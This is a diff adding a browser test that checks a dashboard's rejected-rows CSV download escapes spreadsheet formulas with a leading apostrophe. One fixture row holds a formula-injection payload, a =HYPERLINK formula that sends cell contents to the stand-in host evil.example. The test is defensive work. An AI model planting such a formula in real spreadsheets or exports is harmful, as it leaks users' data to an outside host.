@@ -388,3 +388,30 @@ def test_saved_segments_in_the_lists_view_and_the_campaign_form(
     wait(browser, 20).until(lambda b: "#campaigns/cmp-" in b.current_url)
     created = runtime.app.campaigns.get(browser.current_url.rsplit("/", 1)[1])
     assert (created.segment_id, created.segment_version) == (saved.segment_id, 1)
+
+
+def test_the_rejected_rows_download_keeps_formulas_as_text(
+    served: tuple[LocalRuntime, str], browser: WebDriver
+) -> None:
+    """The file's own text goes into the download: a cell a spreadsheet would evaluate gets a
+    leading apostrophe, as in the CLI's rejected file and in exports."""
+    _, url = served
+    browser.get(url + "/")
+    rejects = [
+        {"line": 4, "email": '=HYPERLINK("http://evil.example/?"&A1;"Click")', "reason": "no @"},
+        {"line": 5, "email": "+1", "reason": "-x"},
+        {"line": 6, "email": "ada@example.com", "reason": 'a "quoted" word'},
+    ]
+    csv_text: str = browser.execute_async_script(
+        "const [rejects, done] = arguments;"
+        "import('/dashboard/imports.js')"
+        ".then((m) => done(m.rejectedCsv(rejects)), (e) => done(String(e)));",
+        rejects,
+    )
+    assert csv_text.split("\r\n") == [
+        "line,email,reason",
+        '"4","\'=HYPERLINK(""http://evil.example/?""&A1;""Click"")","no @"',
+        '"5","\'+1","\'-x"',
+        '"6","ada@example.com","a ""quoted"" word"',
+        "",
+    ]
